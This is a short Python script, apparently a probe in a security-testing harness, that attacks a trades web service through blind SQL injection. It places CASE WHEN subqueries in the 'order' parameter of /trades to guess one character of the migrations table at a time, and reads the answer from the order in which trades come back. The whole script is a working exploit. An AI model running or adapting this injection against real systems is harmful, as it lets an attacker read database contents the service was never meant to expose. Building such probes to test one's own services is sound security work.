"""Reads another table, a character at a time, from the order in which trades come."""

from __future__ import annotations

from service import Attack, Refused, ask, get, run

TEST = "CASE WHEN (SELECT substr(name, 4, 1) FROM migrations) = '{}' THEN id ELSE -id END"


def inject_order(attack: Attack) -> None:
    """Ask for an order that depends on what the table of migrations holds."""
    orders = ("id", *(TEST.format(guess) for guess in "0123456789"))
    usual, *rest = ask(get("/trades", *({"symbol": "ACME", "order": one} for one in orders)))
    if usual not in rest:
        raise Refused("NoEffect", "the order of trades told nothing")
    attack.succeeded(f"the order of trades told a character of another table: {rest.index(usual)}")


if __name__ == "__main__":
    run(inject_order)
